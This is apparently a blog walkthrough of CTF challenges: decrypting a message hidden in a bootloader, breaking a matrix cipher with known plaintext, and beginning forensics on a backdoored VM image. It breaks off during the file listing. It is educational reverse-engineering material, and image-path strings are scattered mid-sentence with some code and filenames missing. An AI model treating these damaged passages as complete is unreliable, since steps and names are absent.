Adversary Quest 2021 Walkthrough, Part 2: Four SPACE JACKAL Hacktivist Challenges

At the end of January 2021, the CrowdStrike Intelligence Advanced Research Team hosted our first-ever Adversary Quest. This “capture the flag” event featured 12 information security challenges in three different tracks: eCrime, Hacktivism and Targeted Intrusion. In the Hacktivism track, players were pitted against SPACE JACKAL, a fictional Hacktivism adversary with a strong opinion on source code indentation. Their objective was described as follows:

Not to be confused with spaceflight enthusiasts, SPACE JACKAL have very strict opinions on source code indentation. Brought together by their unbounded hate for ASCII character 9, they will not rest until the last tab stop has been eradicated from the face of the internet.

Part 1 of this three-part blog series covered the challenges in the eCrime track. This blog, Part 2, provides a walkthrough of the four challenges in the Hacktivism track: The Proclamation, Matrix, Injector and Tab-Nabbed.

Challenge 1: The Proclamation

TheSPACE JACKAL track started off with an unknown binary file that emerged from the deep dark web:

A mysterious file appeared on a deep dark web forum. Can you figure out what we can’t see right now?

This is a steganography challenge that also requires skills in reverse engineering.

Initial Analysis

The challenge consists of a fileproclamation.dat. This file (512 byte) contains a simple self-written bootloader.

$ sha256sum proclamation.dat
0b774b861ff5e4eb6e67d2fe7d2fc323465ca3896a05b323fb66d3ac1976d331  proclamation.dat

$ file proclamation.dat
proclamation.dat: DOS/MBR boot sector

The bootloader can be executed in Qemu asfollows:

$ qemu-system-x86_64 -drive format=raw,file=proclamation.dat

When executed, the following message is displayed on the screen:

Hello. We are looking for highly intelligent
individuals. To find them, we havedevised
a test.

There is a message hidden in this bootloader.

Find it, and it will lead you on the road to
finding us. We look forward to meet the
few that will make it all the way through.

Good luck, and remember:
    We love spaces much more than tabs!

The Bootloader: Reverse Engineering

Since the file contains x86 instructions, we can use $ ndisasm proclamation.dat to disassemble the bootloader. Basically, the file starts with the instructions for the bootloader (starting at 0x000), followed by a block of unknown data (starting at 0x064) and the postfix of any bootloader, 0x55aa (starting at 0x1fe).

The bootloader starts by initializing its execution: The first instruction mov sp, 0x2000 allocates 8KB of stack space. The next block initializes the screen, as can be seen in our annotated disassembly:

The second block of instructions moves the cursor:The third block processes and prints the data:

The Encrypted Message

The message that is shown when we run the bootloader is stored within the file in encrypted form and decrypted on the fly toprint. But there is one printable string — a hint — inside the binary:

$ strings proclamation.dat
you're on a good way.

Looking at the disassembly we have already revealed, the instructions that decrypt the ciphertext start at 0x02c. It’s an implementation of a linear congruential generator (LCG). The generator is seeded with the value 0x9 (two instructions at position 0x01f), and each subsequent byte (stored in edx) is generated based on its previous value:

edx = ((edx << 0x02) + 0x42) & 0xff

In addition, the code that prints characters stops when a null byte is reached. Investigating the printed plaintext and the ciphertext will reveal that the ciphertext is larger than the plaintext and there is data in addition to the hint seen above, which is not printed.

The dd command can be used to extract the relevant block of data stored at the offset following the instructions:

(Click to enlarge)

Knowing the encryption scheme, we can implement a tool to decrypt the data:

This script already reveals the flag, which is not printed by the bootloader due to the null byte just in front of it:

We only learned later that our LCG reaches a fixed point after a few iterations, meaning that the key stream degraded to only a single byte that was XORed against most of the message. This meant that the challenge could also be solved very quickly by simply XORing the bootloader with every possible byte value and looking for flags inthe results.

Challenge 2: Matrix

Challenge 2 is framed such that we have identified a Tor hidden service that hosts our fictional adversary’s forum on the dark web:

With the help of your analysis, we got onto the trail of the group and found their hidden forum on the Deep Dark Web. Unfortunately, all messages are encrypted. While we believe that we have found their encryption tool, we are unsure how to decrypt these messages. Can you assist?

When players browse to the adversary’s website, they’ll see the following encrypted messages:

Luckily, an encryption tool is provided as part of the challenge. The tool is a Python script called

Encryption Script

This script receives a plaintext (or aciphertext) and a key and encrypts (or decrypts) the input. The decryption mechanism relies on the same function as the encryption mechanism. The challenge also presents three ciphertext messages (via the Tor Hidden Service Forum) encrypted with an unknown key. The goal is to decrypt the messages without knowing the key or to derive the key and use the decryption mechanism provided by the script itself. implements two functions, C(K, M) and U(K). C(K, M) is the encryption and decryption routine. For decryption, the decryption key is passed in the first argument, and the encrypted message in the second argument. If the function C is used for encryption, the outcome of U(K) is used as the key and the plaintext is passed in the second argument. Thefunction U(K) computes the mathematical inverse of K where K (a list) is interpreted as a 3×3 matrix.

For example,

K = [1,2,3,4,5,6,7,8,9]

is interpreted as the following 3×3 matrix:

[ 1 2 3 ] [ 4 5 6 ] [ 7 8 9 ]

The inverse of K is a matrix K' where K * K' = 1.

Likewise, the first argument K of C(K, M) is interpreted as a matrix as well. The argument M of the function C is a bytes object that gets padded with null bytes to a length that is a multiple of 3, and is then divided into chunks of 3 bytes. Each chunk is interpreted as a vector and multiplied with K using matrix-vector multiplication.

Noteworthy is that the script adds the prefix “SPACEARMY” to any message before encrypting it with the function C, and also validates that any decrypted message starts with that prefix. We therefore know at least the first 9 plaintext bytes for any given ciphertext.

With this information, there are now two reasonable methods to decrypt the messages without a key. One strategy is to invert the encryption operation to derive the key, and the other is to use a theorem prover (e.g., Z3) to solve the encryption equation.

Encryption: MathematicalOperations

For both methods, we need to understand how the encryption algorithm works. Let us define:

The encryption key :

     [ k1 k2 k3 ]
k := [ k4 k5 k6 ]
     [ k7 k8 k9 ]

The known plaintext prefix:[ S P A ]
p := [ C E A ]
     [ R M Y ]

The ciphertext:

     [ c1 c2 c3 ]
c:= [ c4 c5 c6 ]
     [ c7 c8 c9 ]

The function C() in, when used for encryption, receives inv(k) as key K (let’s denote that as k') and (at least) p as plaintext message M. The plaintext is broken up into three vectors of length 3 each:

     [S]       [C]       [R]
p1 = [P], p2 = [E], p3 = [M], p4 = ...
     [A]       [A]       [Y]

Each vector is multiplied (regarding the residual class ring Z/mod 256) with k'. For example:

               [S]   [c1]
k’ * p1 = k' * [P] = [c2]
               [A]   [c3]

Therefore, the encryption of the first 9 plaintext bytes (C(inv(k), p)) can be described as a matrix-matrix multiplication:

k' * transpose(p) = transpose(c)

Inverting the Encryption Operation

Three theorems are used to invert the encryption routine. For two matrices A and B (with the same dimensions) these are:

  1. inv(A * B) = inv(B) * inv(A)
  2. transpose(A * B) = transpose(B) * transpose(A)
  3. transpose(inv(A)) = inv(transpose(A))

With these theorems, the key k can be derived given a ciphertext c and the known plaintext prefix p:

    k' * transpose(p) = transpose(c)
<=> inv(k) * transpose(p) = transpose(c)
<=> transpose(inv(k) * transpose(p)) = transpose(transpose(c))
<=> transpose(inv(k) * transpose(p)) = c
<=> transpose(transpose(p)) * transpose(inv(k)) = c
<=> p * transpose(inv(k)) = c

<=> inv(p * transpose(inv(k))) = inv(c)
<=> inv(transpose(inv(k))) * inv(p) = inv(c)
<=> inv(inv(transpose(k))) * inv(p) = inv(c)
<=> transpose(k) * inv(p) = inv(c)
<=>transpose(k) * inv(p) * p = inv(c) * p
<=> transpose(k) = inv(c) * p

However, since the function C(K, M) in calculates transpose(K * transpose(M)), we can reuse that function. If we feed inv(c) and transpose(p) into C, we’ll obtain

transpose(inv(c) * transpose(transpose(p))) = k

Solution: Decryption

We can now use this information to implement a Python script that derives the key and decrypts the ciphertext:

This tool is then used to decrypt the third entry of the forum with the title “FLAGZ!”:

$ echo"259F8D014A44C2BE8FC50A5A2C1EF0C13D7F2E0E70009CCCB4" \
       "C2ED84137DB4C2EDE078807E1616C266D5A15DC6DDB60E4B73" \
       "37E851E739A61EED83D2E06D618411DF61222EED83D2E06D61" \
       "2C8EB5294BCD4954E0855F4D71D0F06D05EE" | python3
[*] reading ciphertext from stdin
[*] derived key: b'SP4evaCES'
[*] plaintext prefix is correct. plaintext:
Good job!

 040 == 32 == 0x20


The last line of the entry gives us the flag.

Challenge 3: Injector

The third challenge of the SPACE JACKAL track is called “Injector.” The challenge description revealed the fictional adversary had been recruiting, and reads as follows:

The decrypted forum messages revealed that a disgruntled employee at one of our customers joined SPACE JACKAL and backdoored a host at their employer before they quit. Our customer provided us with a snapshot of that machine.

Please identify the backdoor and validate your findings against our test instance of that host, which is available atThe provided archive contains two files, a shell script and a QEMU image named art_ctf_injector_local.qcow2:

$ tar Jxvf injector.tar.xz
$ sha256sum injector/art_ctf_injector_local.qcow2
168c34df9534252ad1fc025fa4491269d3788bc728c2eafe80cc3aabb988da40  injector/art_ctf_injector_local.qcow2

The shell script prepares theterminal before starting a running snapshot of the virtual machine image using QEMU. Additionally, it forwards TCP ports 3322 and 4321 of the host to the virtual machine. When run, the user is presented with a root shell on the VM:

$ ./
Restoring snapshot compromised (art_ctf_injector_local.qcow2)
Press Return...

root@injector-local:~# id
uid=0(root) gid=0(root) groups=0(root)

The alleged backdoor could either be located in memory or on disk (or both). While memory forensics can be challenging, it makes sense to analyze the file system first and hope to find a first clue there. To make sure that no running backdoor hides any of its files by filtering file system access, we can stop the VM and mount the QCOW2 image by using qemu-nbd:

# modprobe nbd
# qemu-nbd --connect=/dev/nbd0 art_ctf_injector_local.qcow2
# mount /dev/nbd0p2 rootfs/

# ls -la rootfs/
total 88
drwxr-xr-x. 19 root root  4096 Dec 21 17:20 .
drwxr-xr-x.  4 user user  4096 Feb 15 17:45 ..
lrwxrwxrwx.  1 root root     7 Oct 22 15:58 bin -> usr/bin
drwxr-xr-x.  3 root root  4096 Dec 17 16:16 boot
drwxr-xr-x.  2 root root  4096 Dec 17 15:59 cdromdrwxr-xr-x.  4 root root  4096 Oct 22 16:00 dev
drwxr-xr-x. 92 root root  4096 Jan 13 20:11 etc
drwxr-xr-x.  2 root root  4096 Jan 13 20:00 home

When analyzing the file system, a suspicious Bash script can be found at /tmp/.hax/

root@injector-local:~# ls -la /tmp
total 48
drwxrwxrwt 12 root root 4096 Feb 15 13:56 .
drwxr-xr-x 19 root root 4096 Dec 21 16:20 ..
drwxrwxrwt  2 root root 4096 Jan 13 19:13 .font-unix
drwxr-xr-x  2 root root 4096 Jan 13 19:15 .hax
drwxrwxrwt  2 root root 4096 Jan 13 19:13 .ICE-unix
root@injector-local:~# ls -la /tmp/.hax
total 12
drwxr-xr-x  2 root root 4096 Jan 13 19:15 .
drwxrwxrwt 12 root root 4096 Feb 15 13:56 ..
